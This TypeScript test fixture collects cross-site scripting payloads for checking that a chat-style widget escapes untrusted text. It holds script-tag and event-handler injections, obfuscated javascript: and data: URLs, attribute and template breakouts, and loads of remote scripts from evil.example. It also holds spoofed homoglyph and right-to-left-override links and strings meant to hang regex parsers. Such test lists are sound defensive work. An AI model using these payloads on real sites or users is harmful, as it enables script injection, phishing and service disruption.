/**
 * Classic cross-site scripting payloads for text fields, shared by the suites that check the widget shows
 * untrusted text as text: message bodies, names, file names, link text. Each tries to run `alert(1)` (or to
 * mislead the reader) if the text ever reaches HTML, an attribute, a URL, a template or a style sheet.
 *
 * @example
 * ```ts
 * for (const payload of XSS_PAYLOADS) {
 *   it(`shows ${JSON.stringify(payload.slice(0, 40))} as text`, () => {
 *     // render payload, assert nothing ran and no element appeared
 *   });
 * }
 * ```
 */
export const XSS_PAYLOADS: readonly string[] = Object.freeze([
  // Plain script tag: runs if the text is ever assigned to innerHTML.
  '<script>alert(1)</script>',
  // Mixed-case tag name: slips past filters that match `<script` exactly.
  '<ScRiPt>alert(1)</sCrIpT>',
  // Unclosed script tag: the parser closes it at the end of the document.
  '<script>alert(1)',
  // Nested tags: a filter that strips `<script>` once leaves a working one behind.
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // External script source.
  '<script src="https://evil.example/x.js"></script>',
  // Script with a slash instead of a space before the attribute.
  '<script/src=data:,alert(1)></script>',
  // Image error handler: the most common payload of all.
  '<img src=x onerror=alert(1)>',
  // Error handler without quotes or spaces, with a slash separator.
  '<img/src="x"/onerror="alert(1)">',
  // Backticks instead of quotes around the handler.
  '<img src=x onerror=`alert(1)`>',
  // SVG load handler.
  '<svg onload=alert(1)>',
  // SVG load handler with a slash and no space.
  '<svg/onload=alert(1)//',
  // Body load handler.
  '<body onload=alert(1)>',
  // Input that focuses itself to fire its handler without a click.
  '<input autofocus onfocus=alert(1)>',
  // Details element that opens itself to fire ontoggle.
  '<details open ontoggle=alert(1)>',
  // Marquee start handler, an old engine quirk.
  '<marquee onstart=alert(1)>x</marquee>',
  // Video error handler on a missing source.
  '<video><source onerror=alert(1)></video>',
  // Audio with a bogus source.
  '<audio src=x onerror=alert(1)>',
  // Hover handler on an ordinary element.
  '<div onmouseover="alert(1)">hover me</div>',
  // Plain javascript: link.
  'javascript:alert(1)',
  // Mixed-case scheme.
  'JaVaScRiPt:alert(1)',
  // Tab inside the scheme, which URL parsers strip.
  'java\tscript:alert(1)',
  // Newline inside the scheme.
  'java\nscript:alert(1)',
  // Carriage return inside the scheme.
  'java\rscript:alert(1)',
  // Leading spaces and control characters, which URL parsers trim.
  ' \u0001\u0002javascript:alert(1)',
  // Decimal HTML entity for the first letter.
  '&#106;avascript:alert(1)',
  // Hex HTML entities with padding zeros.
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  // Named entities for the colon and parentheses.
  'javascript&colon;alert&lpar;1&rpar;',
  // Percent-encoded scheme, decoded by naive code.
  '%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)',
  // Null byte inside the scheme.
  'java\u0000script:alert(1)',
  // javascript: URL whose "comment" hides an https URL, with the code after an encoded newline.
  'javascript://https://example.com/%0Aalert(1)',
  // Anchor tag with a javascript: href.
  '<a href="javascript:alert(1)">click</a>',
  // Anchor tag with an entity-obfuscated href.
  '<a href="&#106;avascript:alert(1)">click</a>',
  // Markdown link to javascript:.
  '[click](javascript:alert(1))',
  // Markdown link with an https label and a javascript: target.
  '[https://example.com](javascript:alert(1))',
  // Markdown image with an error handler in the title.
  '![x](x "onerror=alert(1)")',
  // VBScript scheme, for old Internet Explorer.
  'vbscript:msgbox(1)',
  // data: URL holding an HTML page with a script.
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  // data: URL with the HTML inline.
  'data:text/html,<script>alert(1)</script>',
  // file: URL to a local file.
  'file:///etc/passwd',
  // blob: URL from the page's origin.
  'blob:https://example.com/0f5f2e6e-1b3c-4a56-9d7e-2d2f3a4b5c6d',
  // Protocol-relative URL, which inherits the page's scheme.
  '//evil.example/x.js',
  // SVG with an embedded script element.
  '<svg><script>alert(1)</script></svg>',
  // SVG foreignObject smuggling HTML into SVG.
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  // SVG animation that rewrites a link's href to javascript:.
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  // iframe whose srcdoc is an HTML document with a script.
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  // iframe pointing at a javascript: URL.
  '<iframe src="javascript:alert(1)"></iframe>',
  // object element with a data: document.
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  // Style sheet importing a remote sheet.
  '<style>@import "https://evil.example/x.css";</style>',
  // Old Internet Explorer CSS expression.
  '<div style="width: expression(alert(1))">x</div>',
  // Closing a style block to open a script.
  '</style><script>alert(1)</script>',
  // Closing a textarea the text may sit in.
  '</textarea><script>alert(1)</script>',
  // Closing a title the text may sit in.
  '</title><script>alert(1)</script>',
  // Breaking out of a double-quoted attribute.
  '"><script>alert(1)</script>',
  // Breaking out of a single-quoted attribute with a handler.
  "' onmouseover='alert(1)",
  // Breaking out of a double-quoted attribute with an autofocus handler.
  '" autofocus onfocus="alert(1)',
  // Breaking out of a JavaScript string in an inline script.
  "';alert(1);//",
  // Closing an inline script from inside a string.
  '</script><script>alert(1)</script>',
  // AngularJS sandbox escape through a template expression.
  "{{constructor.constructor('alert(1)')()}}",
  // Template literal interpolation, if text is ever evaluated as a template.
  '${alert(1)}',
  // Server-side template expression.
  '<%= 7*7 %>{{7*7}}#{7*7}',
  // Lit/Handlebars-style triple braces for unescaped output.
  '{{{alert(1)}}}',
  // Legitimate-looking link whose path breaks out of an attribute.
  'https://example.com/"><script>alert(1)</script>',
  // Legitimate-looking link with an event handler in the query string.
  'https://example.com/?q=<img src=x onerror=alert(1)>',
  // www. link trying to break out of a single-quoted attribute.
  "www.example.com/'onmouseover='alert(1)'",
  // https URL with a javascript: path.
  'https://example.com/javascript:alert(1)',
  // Credentials that make the link read as one host and open another.
  'https://example.com@evil.example/login',
  // Credentials with a password.
  'https://user:pass@evil.example/',
  // www. host followed by credentials.
  'www.example.com@evil.example',
  // Host written as a number, which URL parsers read as 127.0.0.1.
  'http://2130706433/',
  // Host written in hex.
  'http://0x7f.1/',
  // Percent-encoded host letters.
  'https://%65vil.example/',
  // mailto: link with a script in its parameters.
  'mailto:a@example.com?subject=<script>alert(1)</script>',
  // Email address with markup after it.
  'a@example.com<img src=x onerror=alert(1)>',
  // Right-to-left override making an .exe read as .pdf.
  'invoice\u202Efdp.exe',
  // Right-to-left override inside a URL, so the host reads backwards.
  'https://example.com/\u202Egpj.exe',
  // Right-to-left override before a URL, so the whole link reads backwards.
  '\u202Emoc.elpmaxe//:sptth https://evil.example',
  // Isolate controls wrapped around a host.
  'https://\u2067evil.example\u2069/',
  // Zero-width space inside a host.
  'https://exa\u200Bmple.com/',
  // Null bytes inside a tag name.
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  // Null byte inside a URL.
  'https://example.com\u0000.evil.example/',
  // Cyrillic homoglyph host that looks like apple.com.
  'https://аpple.com/login',
  // Greek and Cyrillic homoglyphs mixed with Latin in a www. host.
  'www.gοοglе.com',
  // Full-width letters that some normalizers fold to `<script>`.
  '＜script＞alert(1)＜/script＞',
  // Unicode escapes that a second decoding would turn into a tag.
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  // HTML comment hiding a script from naive filters.
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  // CDATA section in SVG.
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
  // Meta refresh to a javascript: URL.
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  // Base tag that re-points every relative URL.
  '<base href="javascript:alert(1)//">',
  // Form whose submit button runs code.
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  // Very long tag soup that stresses parsers and regular expressions.
  '<script>'.repeat(5000) + 'alert(1)',
  // Very long string with no spaces.
  'A'.repeat(100_000),
  // Very long URL, over the length limit.
  'https://example.com/' + 'a'.repeat(5000),
  // Many at-signs that punish backtracking email patterns.
  'a@'.repeat(20_000) + '!',
  // Many open parentheses that punish backtracking URL patterns.
  'https://example.com/' + '('.repeat(20_000),
]);
